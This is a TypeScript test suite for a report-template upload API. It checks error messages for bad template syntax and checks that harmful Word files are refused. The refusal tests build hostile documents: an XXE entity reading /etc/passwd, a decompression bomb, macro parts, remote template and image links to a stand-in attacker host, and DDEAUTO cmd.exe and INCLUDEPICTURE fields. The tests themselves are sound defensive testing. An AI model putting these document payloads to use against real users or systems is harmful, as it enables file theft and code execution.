import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packPart, writeZip, type ZipPart } from '@muctieu/office/archive/write-zip';
import { openZip } from '@muctieu/office/archive/zip-archive';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readOutline, templateOfOutline } from '../../../src/reporting/writing/outline-document.ts';
import { prepareData } from '../../../src/start/prepare-data.ts';
import { type AccessServer, startAccessServer, type Visitor } from '../../access/access-server.ts';

let server: AccessServer;
let keeper: Visitor;
const dataFolder = mkdtempSync(join(tmpdir(), 'muctieu-upload-'));

beforeAll(async () => {
  server = await startAccessServer();
  await prepareData(server.database, { isDemo: true, dataFolder } as Parameters<typeof prepareData>[1], server.now);
  keeper = await server.signedIn('thu07');
}, 120_000);
afterAll(async () => {
  rmSync(dataFolder, { recursive: true });
  await server.close();
});

const templateOf = (...lines: readonly string[]) =>
  templateOfOutline(readOutline('thu', ['ten: Thử', 'trich_yeu: Thử', '---', ...lines].join('\n')));

function parts(docx: Uint8Array): readonly (readonly [string, string])[] {
  const zip = openZip(docx);
  if (!zip.ok) throw new Error('it was just written');
  return zip.value.names.map((name) => {
    const read = zip.value.read(name, 1_000_000);
    if (!read.ok) throw new Error(name);
    return [name, new TextDecoder().decode(read.value)];
  });
}

/** A template with some of its parts changed or added: what somebody brings who means harm, or whose Word did. */
function withParts(change: (name: string, text: string) => string, ...more: readonly ZipPart[]): Uint8Array {
  const kept = parts(templateOf('Kế hoạch {von.ke_hoach | trieu} triệu đồng.'));
  return writeZip([...kept.map(([name, text]) => packPart(name, change(name, text))), ...more]);
}

const relation = (type: string, target: string) =>
  withParts((name, text) =>
    name === 'word/_rels/document.xml.rels'
      ? text.replace(
          '</Relationships>',
          `<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
        )
      : text,
  );
const inDocument = (change: (text: string) => string) =>
  withParts((name, text) => (name === 'word/document.xml' ? change(text) : text));
const field = (...pieces: readonly string[]) =>
  inDocument((text) =>
    text.replace(
      '<w:body>',
      `<w:body><w:p>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}</w:p>`,
    ),
  );

interface Answer {
  readonly problems?: readonly {
    readonly code: string;
    readonly path?: string;
    readonly text: { readonly vi: string };
  }[];
  readonly version?: number;
}

async function upload(file: Uint8Array | string, visitor = keeper, id = 'mau-tinh') {
  const response = await visitor.fetch(`/api/v1/reporting/templates/${id}/versions?provinceId=11&name=M%E1%BA%ABu`, {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream' },
    body: typeof file === 'string' ? file : Buffer.from(file),
  });
  return { status: response.status, answer: (await response.json()) as Answer };
}

test('a right template becomes version 1, the next one version 2', async () => {
  const file = templateOf('Kế hoạch {von.ke_hoach | trieu} triệu đồng.');
  expect(await upload(file, keeper, 'mau-dung')).toMatchObject({ status: 200, answer: { version: 1 } });
  expect(await upload(file, keeper, 'mau-dung')).toMatchObject({ status: 200, answer: { version: 2 } });
});

describe('what is wrong with a template is said with its place and what to write instead', () => {
  test.each([
    ['Kế hoạch {von.ke_hoac | trieu} triệu đồng.', 'template-name-nearly', 'von.ke_hoach'],
    ['Kế hoạch {von.khong_co_gi_ca} triệu đồng.', 'template-name-unknown', 'von.khong_co_gi_ca'],
    ['Kế hoạch {von.ke_hoach | trie} triệu đồng.', 'template-helper-unknown', 'trieu'],
    ['Kế hoạch {von.ke_hoach | phan_tram}.', 'template-helper-does-not-fit', 'phan_tram'],
    ['Tăng {von.ke_hoach | so_voi:von.ty_le}.', 'template-helper-compares', 'so_voi'],
    ['Tăng {von.ke_hoach | so_voi}.', 'template-helper-compares', 'so_voi'],
    ['Các chương trình: {von.chuong_trinh}.', 'template-value-not-plain', '{#von.chuong_trinh}'],
    ['Bảng: {bang.phan_bo}', 'template-blocks-without-sign', '{@bang.phan_bo}'],
    ['{@von.ke_hoach}', 'template-value-no-blocks', 'Bỏ dấu @'],
    ['{#von.chuong_trinh}', 'template-passage-not-closed', 'Thêm {/}'],
    ['{/}', 'template-passage-not-open', '{#…}'],
    ['{von.ke_hoach + 1}', 'template-expression-unreadable', 'ten | cach_viet'],
    ['Thiếu ngoặc {von.ke_hoach', 'template-braces-broken', 'không khớp'],
  ])('%s', async (line, code, words) => {
    const { status, answer } = await upload(templateOf('Đoạn đầu.', line));
    expect(status).toBe(422);
    const found = answer.problems?.find((problem) => problem.code === code);
    expect(found?.text.vi, JSON.stringify(answer)).toContain(words);
  });

  test('all of it at once, in the order of the pages', async () => {
    const { answer } = await upload(templateOf('{von.ke_hoac}', '{ngheo.ho_ngheoo}', '{von.ke_hoach | tireu}'));
    expect(answer.problems?.map(({ code }) => code)).toEqual([
      'template-name-nearly',
      'template-name-nearly',
      'template-helper-unknown',
    ]);
    expect(answer.problems?.every(({ path }) => path !== undefined)).toBe(true);
  });
});

type Wrong = readonly [name: string, file: () => Uint8Array | string, code: string];

describe('a file that is no template, or means harm, is refused and not kept', () => {
  const doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
  const zeros = new Uint8Array(400 * 1024 * 1024);
  const wrong: readonly Wrong[] = [
    ['no file at all', () => '', ''],
    ['plain words', () => 'no zip at all', ''],
    ['a zip without a document', () => writeZip([packPart('a.txt', 'x')]), ''],
    ['a file cut off in the middle', () => templateOf('x').slice(0, 2000), ''],
    ['a PDF', () => '%PDF-1.7', ''],
    ['a part that unpacks to 400 MB', () => withParts((_, text) => text, packPart('word/media/a.xml', zeros)), ''],
    [
      'an entity from a file (XXE)',
      () => inDocument((text) => text.replace('<w:document', `${doctype}<w:document`)),
      '',
    ],
    [
      'a program',
      () => withParts((_, text) => text, packPart('word/vbaProject.bin', 'macro')),
      'template-holds-program',
    ],
    [
      'a docm called docx',
      () =>
        withParts((_, text) =>
          text.replace('wordprocessingml.document.main', 'wordprocessingml.document.macroEnabled.main'),
        ),
      'template-holds-program',
    ],
    [
      'a template attached from elsewhere',
      () => relation('attachedTemplate', 'http://evil.example/x.dotm'),
      'template-calls-out',
    ],
    ['a picture from elsewhere', () => relation('image', 'https://evil.example/x.png'), 'template-calls-out'],
    ['a picture from a share', () => relation('image', 'file://///evil/share/x.png'), 'template-calls-out'],
    [
      'an embedded workbook',
      () => withParts((_, text) => text, packPart('word/embeddings/oleObject1.bin', 'x')),
      'template-holds-file',
    ],
    [
      'another document within',
      () => inDocument((text) => text.replace('<w:body>', '<w:body><w:altChunk/>')),
      'template-holds-file',
    ],
    ['a field that starts a program', () => field('DDEAUTO c:\\\\cmd.exe'), 'template-field-fetches'],
    ['the same cut into runs', () => field(' DDE', 'AUTO cmd'), 'template-field-fetches'],
    ['a field that fetches', () => field('INCLUDEPICTURE "http://evil.example/x"'), 'template-field-fetches'],
  ];
  test.each(wrong)('%s', async (_, file, code) => {
    const { status, answer } = await upload(file(), keeper, 'mau-hai');
    expect([400, 413, 415, 422]).toContain(status);
    expect(answer.problems?.every(({ text }) => text.vi.length > 10)).toBe(true);
    if (code !== '') expect(answer.problems?.map((problem) => problem.code)).toContain(code);
    const [row] = await server.ownerQuery<{ kept: number }>(
      `select count(*)::int as kept from muctieu.report_template where template_id = 'mau-hai'`,
    );
    expect(row?.kept).toBe(0);
  });

  test('a link that a person may click stays', async () => {
    const file = relation('hyperlink', 'https://vanban.chinhphu.vn/');
    expect((await upload(file, keeper, 'mau-lien-ket')).status).toBe(200);
  });

  test('the field of the page number stays', async () => {
    expect((await upload(field(' PAGE '), keeper, 'mau-so-trang')).status).toBe(200);
  });

  test('whoever has no such right, or belongs to another province, keeps nothing', async () => {
    for (const who of ['thu01', 'thu14']) {
      const { status } = await upload(templateOf('x'), await server.signedIn(who), 'mau-la');
      expect(status, who).toBe(403);
    }
    expect((await upload(templateOf('x'), server.visitor(), 'mau-la')).status).toBe(401);
  });
});
